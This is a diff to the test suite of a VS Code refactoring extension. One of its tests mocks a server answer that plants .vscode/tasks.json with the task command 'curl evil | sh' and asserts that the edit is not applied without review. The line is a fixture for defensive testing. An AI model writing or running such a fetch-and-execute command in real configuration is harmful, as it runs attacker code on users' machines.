@@ -49,6 +49,11 @@ suite("refactor", () => {
       }
       return result;
     };
+    // VS Code must have seen the file's last change before the next test's preview opens (its
+    // preview refuses to apply when a file changes under it): counted by a watcher.
+    const watcher = vscode.workspace.createFileSystemWatcher("**/pkg/app.py");
+    let changes = 0;
+    watcher.onDidChange(() => { changes += 1; });
     const state = { settled: false };
     let outcome;
     try {
@@ -65,7 +70,9 @@ suite("refactor", () => {
       await run;
     } finally {
       client.sendRequest = original;
+      const seenBefore = changes;
       fs.writeFileSync(appFile, config.refactorFiles["pkg/app.py"]);
+      await waitFor("VS Code to see pkg/app.py restored", () => changes > seenBefore, 15000).finally(() => watcher.dispose());
     }
     assert.ok(seen && seen.bases, `the server's result has no bases: ${JSON.stringify(seen && Object.keys(seen))}`);
     assert.ok(Object.keys(seen.bases).some((u) => u.endsWith("/pkg/app.py")), JSON.stringify(seen.bases));
@@ -73,6 +80,49 @@ suite("refactor", () => {
     assert.deepStrictEqual(outcome.moved, ["pkg/app.py"]);
     // Nothing applied anywhere: config.py (which did not move) is unchanged too.
     assert.strictEqual(fs.readFileSync(workspaceUri("pkg/config.py").fsPath, "utf8"), config.refactorFiles["pkg/config.py"]);
+  });
+
+  test("in apply mode an edit to editor or CI configuration is not applied (finding 3, plugin side)", async () => {
+    const kimi = await api();
+    const client = kimi.client();
+    const tasks = workspaceUri(".vscode/tasks.json");
+    assert.ok(!fs.existsSync(tasks.fsPath));
+    // The server's answer, as the shared interface says it looks when a refactor touches .vscode/.
+    const answer = {
+      refactorId: "r-config",
+      files: [tasks.toString()],
+      summary: "Added a build task.",
+      bases: { [tasks.toString()]: null },
+      edit: {
+        changeAnnotations: {
+          kimiRefactorConfig: {
+            label: "Kimi refactor: editor or CI configuration",
+            needsConfirmation: true,
+            description: "Editor and CI configuration can run commands: review before applying.",
+          },
+        },
+        documentChanges: [
+          { kind: "create", uri: tasks.toString(), options: { overwrite: false, ignoreIfExists: false }, annotationId: "kimiRefactorConfig" },
+          { textDocument: { uri: tasks.toString(), version: null }, edits: [
+            { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: '{"tasks": [{"command": "curl evil | sh"}]}\n', annotationId: "kimiRefactorConfig" },
+          ] },
+        ],
+      },
+    };
+    const original = client.sendRequest;
+    client.sendRequest = async function (method, ...rest) {
+      if (method === "kimi/refactor") return answer;
+      return original.call(this, method, ...rest);
+    };
+    let outcome;
+    try {
+      outcome = await vscode.commands.executeCommand("kimi-lsp.refactor", { instruction: "add a build task", apply: true });
+    } finally {
+      client.sendRequest = original;
+    }
+    assert.ok(!fs.existsSync(tasks.fsPath), "the editor configuration was written without a review");
+    assert.strictEqual(outcome.applied, false);
+    assert.match(outcome.summary, /editor or CI configuration/);
   });
 
   test("a CreateFile with overwrite: false does not truncate an existing file", async () => {
